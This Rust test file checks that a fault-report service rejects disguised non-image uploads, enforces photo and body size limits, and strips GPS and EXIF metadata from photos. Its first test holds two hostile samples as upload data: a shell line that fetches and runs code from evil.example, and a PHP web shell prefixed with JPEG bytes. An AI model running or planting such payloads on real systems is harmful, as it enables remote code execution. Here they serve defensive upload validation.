//! Photos: judged by their bytes, size-limited, stripped of metadata before they leave.

use rappu_shared::report::{FaultReport, PHOTO_BYTES_MAX, ReportStatus};
use serde_json::json;

use crate::helpers::{expect_problem, one_account, spawn_app_against};
use crate::report_support::*;

#[tokio::test]
async fn a_script_renamed_jpg_is_refused_and_nothing_is_stored() {
    let app = report_app().await;
    let token = app.token(resident(&app, 0).grant());
    let mut body = report_body("Vesivahinko kylpyhuoneessa");
    body["photos"] = json!([
        photo("hana.jpg", &phone_jpeg()),
        photo("kuva.jpg", b"#!/bin/sh\ncurl http://evil.example/x | sh\n"),
    ]);
    let problem = expect_problem(post_report(&app, &token, "script", &body).await, 422).await;
    assert_eq!(problem.errors.len(), 1);
    assert_eq!(problem.errors[0].field, "photos[1].data");
    assert!(problem.errors[0].message.contains("JPEG, PNG or WebP"));

    // Starts like a JPEG, is not one.
    let mut fake = vec![0xFF, 0xD8, 0xFF, 0xE0];
    fake.extend_from_slice(b"<?php system($_GET['c']); ?>");
    body["photos"] = json!([photo("kuva.jpg", &fake)]);
    let problem = expect_problem(post_report(&app, &token, "fake", &body).await, 422).await;
    assert_eq!(problem.errors[0].field, "photos[0].data");
    let list = app.get("/api/v1/fault-reports", Some(&token)).await;
    assert_eq!(list.json::<serde_json::Value>().await.unwrap()["total"], 0);
    app.stop().await;
}

#[tokio::test]
async fn an_oversize_photo_is_422_and_an_oversize_body_413() {
    let app = spawn_app_against(one_account(1), |s| {
        s.reports.max_body_bytes = 8 * 1024 * 1024;
    })
    .await;
    let token = app.token(resident(&app, 0).grant());
    let mut big = phone_jpeg();
    big.resize(PHOTO_BYTES_MAX + 1, 0);
    let mut body = report_body("Iso kuva");
    body["photos"] = json!([photo("iso.jpg", &big)]);
    let problem = expect_problem(post_report(&app, &token, "big", &body).await, 422).await;
    assert_eq!(problem.errors[0].field, "photos[0].data");
    assert!(problem.errors[0].message.contains("5 MB"));

    // Two photos of 4 MB fit the photo limit but not this gateway's 8 MiB body limit.
    let mut four = phone_jpeg();
    four.resize(4 * 1024 * 1024, 0);
    body["photos"] = json!([photo("a.jpg", &four), photo("b.jpg", &four)]);
    let problem = expect_problem(post_report(&app, &token, "huge", &body).await, 413).await;
    assert_eq!(problem.slug(), "payload-too-large");

    // One of them fits: this route's limit, not the server's 64 KiB, applies.
    body["photos"] = json!([photo("a.jpg", &four)]);
    let response = post_report(&app, &token, "fits", &body).await;
    assert_eq!(response.status(), 201);
    app.stop().await;
}

#[tokio::test]
async fn what_reaches_tampuuri_has_no_exif_gps_or_comments() {
    let app = report_app().await;
    let token = app.token(resident(&app, 0).grant());
    let original = phone_jpeg();
    assert!(contains(&original, GPS));
    let mut body = report_body("Parvekkeen ovi vuotaa");
    body["photos"] = json!([photo("IMG_2041 Koivukuja 3.jpg", &original)]);
    let response = post_report(&app, &token, "photo", &body).await;
    assert_eq!(response.status(), 201);
    let filed: FaultReport = response.json().await.unwrap();
    assert_eq!(filed.photo_count, 1);
    until_status(&app, &token, &filed.id, ReportStatus::Open).await;

    let delivered = delivered_as(&app, &filed.id);
    assert_eq!(delivered.liitteet.len(), 1);
    let attachment = &delivered.liitteet[0];
    assert_eq!(attachment.tyyppi, "image/jpeg");
    assert_eq!(attachment.tiedostonimi, "kuva-1.jpg");
    let sent = &attachment.content;
    assert!(sent.starts_with(&[0xFF, 0xD8]));
    assert!(
        sent.ends_with(&[0x12, 0xFF, 0x00, 0x34, 0xFF, 0xD9]),
        "image data intact"
    );
    for metadata in [GPS, b"Exif".as_slice(), b"xmpmeta", b"kommentti"] {
        assert!(
            !contains(sent, metadata),
            "{}",
            String::from_utf8_lossy(metadata)
        );
    }
    assert!(sent.len() < original.len());
    app.stop().await;
}
